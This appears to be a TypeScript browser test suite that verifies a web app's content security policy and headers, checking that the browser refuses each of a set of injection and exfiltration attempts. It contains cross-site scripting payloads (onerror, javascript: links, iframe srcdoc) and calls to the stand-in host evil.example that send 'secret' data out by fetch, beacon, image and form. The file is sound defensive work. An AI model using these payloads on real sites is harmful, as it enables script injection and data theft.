// What the pages may not do, whatever gets into them: tried in a real browser, which must refuse it.

import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import type { Browser, Page } from "playwright-core";
import { launch } from "./browser.js";
import { TestNode } from "./node.js";

let node: TestNode;
let browser: Browser;

before(async () => {
  node = await TestNode.start();
  browser = await launch();
});

after(async () => {
  await browser?.close();
  await node?.[Symbol.asyncDispose]();
});

/** Tries all that a script or a text of a stranger's could try; gives what came of each. */
function tries(page: Page): Promise<Record<string, string>> {
  return page.evaluate(async () => {
    const violations: string[] = [];
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => violations.push(effectiveDirective));
    const came: Record<string, string> = {};
    const attempt = async (name: string, body: () => unknown): Promise<void> => {
      try {
        const given = await body();
        came[name] = typeof given === "string" ? given : given === undefined ? "done" : JSON.stringify(given);
      } catch (error) {
        came[name] = (error as Error).name;
      }
    };
    const settled = (): Promise<void> => new Promise((resolve) => setTimeout(resolve, 200));
    const adds = (html: string, selector?: string) => async (): Promise<string> => {
      const before = violations.length;
      document.title = "mine";
      const place = document.createElement("div");
      place.innerHTML = html;
      document.body.append(place);
      if (selector !== undefined) place.querySelector<HTMLElement>(selector)?.click();
      await settled();
      place.remove();
      return document.title === "mine" ? violations.slice(before)[0] ?? "nothing" : "ran";
    };
    // What a debugger asks for in its own turn may make code of texts, so all is tried in a later one.
    await settled();
    await attempt("eval", () => (0, eval)("1 + 1"));
    await attempt("Function", () => new Function("return 1 + 1")());
    await attempt("timer", async () => {
      document.title = "mine";
      setTimeout("document.title = 'ran'");
      await settled();
      return document.title;
    });
    await attempt("wasm", async () => {
      await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]));
    });
    await attempt("inline script", async () => {
      document.title = "mine";
      const script = document.createElement("script");
      script.textContent = "document.title = 'ran'";
      document.head.append(script);
      await settled();
      return document.title;
    });
    await attempt("attribute", adds(`<img src="data:," onerror="document.title = 'ran'">`));
    await attempt("link", adds(`<a href="javascript:document.title = 'ran'">go</a>`, "a"));
    await attempt("frame", adds(`<iframe srcdoc="<script>parent.document.title = 'ran'</script>"></iframe>`));
    await attempt("foreign script", async () => {
      const before = violations.length;
      const script = document.createElement("script");
      script.src = "https://evil.example/x.js";
      document.head.append(script);
      await settled();
      return violations.slice(before)[0] ?? "nothing";
    });
    await attempt("fetch", () => fetch("https://evil.example/"));
    await attempt("socket", async () => {
      const before = violations.length;
      // In some browsers it throws, in others it fails.
      new WebSocket("wss://evil.example/");
      await settled();
      return violations.slice(before)[0] ?? "nothing";
    });
    await attempt("beacon", async () => {
      const before = violations.length;
      navigator.sendBeacon("https://evil.example/", "secret");
      await settled();
      return violations.slice(before)[0] ?? "nothing";
    });
    await attempt("picture", adds(`<img src="https://evil.example/?secret">`));
    await attempt("form", async () => {
      const before = violations.length;
      const form = document.createElement("form");
      form.action = "https://evil.example/";
      document.body.append(form);
      form.submit();
      await settled();
      return violations.slice(before)[0] ?? "nothing";
    });
    return came;
  });
}

const REFUSED: Readonly<Record<string, RegExp>> = {
  "eval": /^EvalError$/,
  "Function": /^EvalError$/,
  "timer": /^mine$/,
  "inline script": /^mine$/,
  "attribute": /^script-src/,
  "link": /^script-src|^nothing$/,
  "frame": /^(nothing|frame-src|script-src|child-src|default-src)/,
  "foreign script": /^script-src/,
  "fetch": /^TypeError$/,
  "socket": /^(connect-src|SecurityError)$/,
  "beacon": /^connect-src$/,
  "picture": /^img-src$/,
  "form": /^form-action$/,
};

function assertRefused(came: Record<string, string>): void {
  for (const [what, wanted] of Object.entries(REFUSED)) assert.match(came[what] ?? "", wanted, `${what}: ${JSON.stringify(came)}`);
  assert.equal(came["wasm"], "done", "WebAssembly runs");
}

test("nothing of a stranger's runs or leaves by the explorer, and nothing is made code of a text", async () => {
  const page = await browser.newPage();
  const response = await page.goto(node.page("/"));
  const policy = response?.headers()["content-security-policy"] ?? "";
  assert.ok(!policy.includes("'unsafe-eval'") && !policy.includes("unsafe-inline"), policy);
  await page.waitForSelector("main");
  const came = await tries(page);
  assertRefused(came);
  await page.close();
});

test("nor by the notebook, which runs its user's programs alone", async () => {
  const page = await browser.newPage();
  await page.goto(node.notebook);
  await page.waitForSelector("main");
  assertRefused(await tries(page));
  await page.close();
});

test("what users stored is no page, and no page is in a frame", async () => {
  const auth = { authorization: `Bearer ${node.token}` };
  const at = (path: string): URL => new URL(path, node.page("/"));
  for (const path of ["/objects/", "/objects/nothing", "/nothing", "/healthz", "/openapi.json", "/"]) {
    const { headers } = await fetch(at(path), { headers: auth });
    assert.equal(headers.get("x-content-type-options"), "nosniff", path);
    assert.equal(headers.get("x-frame-options"), "DENY", path);
    assert.equal(headers.get("referrer-policy"), "no-referrer", path);
    const policy = headers.get("content-security-policy") ?? "";
    assert.match(policy, /default-src 'none'.*frame-ancestors 'none'/, path);
    if (path !== "/") assert.match(policy, /sandbox/, path);
  }
  // A page of another origin of this machine that frames them both.
  const page = await browser.newPage();
  await page.route("http://other.localhost/", (route) => route.fulfill({
    contentType: "text/html",
    body: `<iframe src="${node.page("/")}"></iframe><iframe src="${node.notebook}"></iframe>`,
  }));
  await page.goto("http://other.localhost/");
  await page.waitForTimeout(500);
  const frames = page.frames().filter((frame) => frame !== page.mainFrame());
  assert.equal(frames.length, 2);
  for (const frame of frames) assert.match(frame.url(), /^chrome-error:|^about:blank/);
  await page.close();
});
